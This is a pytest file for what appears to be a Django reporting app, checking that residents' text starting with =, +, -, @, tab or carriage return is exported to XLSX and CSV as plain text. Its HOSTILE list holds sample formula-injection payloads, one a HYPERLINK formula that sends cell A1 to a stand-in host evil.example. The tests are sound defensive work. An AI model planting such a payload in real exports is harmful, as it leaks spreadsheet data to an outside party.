"""A resident's text that starts like a formula (=, +, -, @, a tab or a carriage return) reaches
the spreadsheet as text: no formula in any Excel or CSV export (the briefing's appendix
included)."""

import csv
import io
import zipfile

import openpyxl
import pytest

from reports.exports import to_csv, to_xlsx
from reports.exports_briefing import briefing_xlsx
from reports.periods import Period
from reports.services.briefing import briefing_figures
from tests.routing.helpers import open_case

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _formulas(xlsx: bytes) -> list[str]:
    """Every <f> element of every sheet: a formula a spreadsheet would compute."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        return [
            name
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in book.read(name)
        ]


def test_xlsx_cells_that_look_like_formulas_are_text():
    xlsx = to_xlsx([("表", ["意见", "件数"], [[text, -3] for text in HOSTILE])])
    assert _formulas(xlsx) == []
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # (XML keeps a carriage return as a line feed.)
    assert [c.value for c in cells] == [t.replace("\r", "\n") for t in HOSTILE]
    assert all(c.data_type == "s" for c in cells)
    assert sheet["B2"].value == -3  # numbers stay numbers


def test_csv_cells_that_look_like_formulas_get_an_apostrophe():
    text = to_csv(["意见", "件数"], [[t, -3] for t in HOSTILE]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[0] for row in rows[1:]] == ["'" + t for t in HOSTILE]
    assert all(row[1] == "-3" for row in rows[1:])  # numbers stay numbers


@pytest.mark.django_db
@pytest.mark.usefixtures("fixed_suggestion")
def test_the_briefing_appendix_keeps_a_hostile_opinion_as_text(areas, site, categories):
    from django.utils import timezone

    open_case(site.area, site=site, text=HOSTILE[0] + " 小区路灯坏了很久了")
    today = timezone.localdate()
    period = Period.parse(f"{today.year}Q{(today.month - 1) // 3 + 1}")
    xlsx = briefing_xlsx(briefing_figures(period, areas[0]))
    assert _formulas(xlsx) == []
    values = [
        cell.value
        for sheet in openpyxl.load_workbook(io.BytesIO(xlsx)).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("=HYPERLINK")
    ]
    assert values, "the opinion is in the appendix, as text"
